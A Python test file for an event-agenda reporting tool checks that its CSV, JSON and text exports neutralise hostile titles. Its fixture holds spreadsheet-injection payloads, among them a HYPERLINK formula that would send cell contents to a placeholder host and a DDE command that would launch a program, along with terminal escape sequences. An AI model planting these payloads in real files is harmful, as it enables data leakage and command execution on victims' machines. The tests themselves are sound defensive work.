"""Titles written to attack whoever opens the report: a spreadsheet, a terminal, a browser."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from runofshow.clock import FakeClock
from runofshow.domain.agenda.parse import parse_agenda
from runofshow.domain.events import LIVE
from runofshow.report import TEXT_FORMATS, render
from runofshow.report.model import load
from runofshow.words.text import spreadsheet_safe
from tests.kit.journals import Driver

HOSTILE = r"""
[session]
title = "=HYPERLINK(\"http://e.invalid/?\"&A1,\"Click\") \u0007"
date = "2021-10-08"
timezone = "Asia/Seoul"

[[segments]]
start = "18:00"
duration = "5m"
title = "+cmd|' /C calc'!A0"
speaker = "@SUM(1)"
kind = "-talk"

[[segments]]
start = "18:05"
duration = "5m"
title = "Bell \u0007 escape \u001b]0;owned\u0007 csi \u009b2J del \u007f"
speaker = "\t=1+1"
kind = "=kind"

[[segments]]
start = "18:10"
duration = "5m"
title = "  -2+3"
speaker = "\r@x"
kind = "talk"
"""

#: Any C0 control but the line feed that ends a line, DEL, or any C1 control.
RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.chdir(tmp_path)
    agenda = parse_agenda(HOSTILE, "hostile.toml")
    show = Driver(tmp_path / "hostile.jsonl", FakeClock("2021-10-08T09:00:00Z"), agenda, LIVE)
    show.do("start")
    show.run(240)  # one minute under: delta_s is a negative number
    show.do("next")
    show.run(300)
    show.do("next")
    show.run(360)
    show.do("end")
    show.controller.close()
    return "hostile.jsonl"


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
@pytest.mark.parametrize("count", [1, 2])
def test_no_format_carries_a_raw_control_character(hostile: str, fmt: str, count: int) -> None:
    text = render([load(hostile)] * count, fmt)
    assert RAW_CONTROL.findall(text) == []


def test_csv_text_cells_are_never_formulas(hostile: str) -> None:
    rows = list(csv.reader(io.StringIO(render([load(hostile)], "csv"))))
    header, body = rows[0], rows[1:]
    cells = [dict(zip(header, row)) for row in body]
    assert cells[0]["title"] == "'+cmd|' /C calc'!A0"
    assert cells[0]["speaker"] == "'@SUM(1)"
    assert cells[0]["kind"] == "'-talk"
    assert cells[1]["speaker"] == "'=1+1"  # the agenda trims the tab; the formula is still marked as text
    assert cells[1]["kind"] == "'=kind"
    assert cells[1]["title"] == "Bell \\x07 escape \\x1b]0;owned\\x07 csi \\x9b2J del \\x7f"
    assert cells[2]["title"] == "'-2+3"
    assert cells[2]["speaker"] == "'@x"
    for row in cells:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@")), value
    # Numbers stay numbers, negative ones too.
    assert [row["delta_s"] for row in cells] == ["-60", "0", "60"]


def test_json_escapes_every_control_character_and_keeps_the_text(hostile: str) -> None:
    text = render([load(hostile)], "json")
    assert "\\u009b" in text and "\\u007f" in text and "\\u001b" in text
    data = json.loads(text)
    assert data["segments"][1]["title"] == "Bell \x07 escape \x1b]0;owned\x07 csi \x9b2J del \x7f"  # data stays data
    assert data["segments"][0]["title"] == "+cmd|' /C calc'!A0"  # json is not a spreadsheet


def test_spreadsheet_safe_marks_a_formula_hidden_behind_a_tab_cr_or_spaces() -> None:
    assert spreadsheet_safe("\t=1+1") == "' =1+1"
    assert spreadsheet_safe("\r@SUM(1)") == "'\\x0d@SUM(1)"
    assert spreadsheet_safe("   =1+1") == "'   =1+1"
    assert spreadsheet_safe("-") == "'-"


def test_spreadsheet_safe_leaves_ordinary_text_alone() -> None:
    assert spreadsheet_safe("Q&A: 10 - 15 min") == "Q&A: 10 - 15 min"
    assert spreadsheet_safe("한국어 🎤") == "한국어 🎤"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("2021-10-08T18:00:00+09:00") == "2021-10-08T18:00:00+09:00"
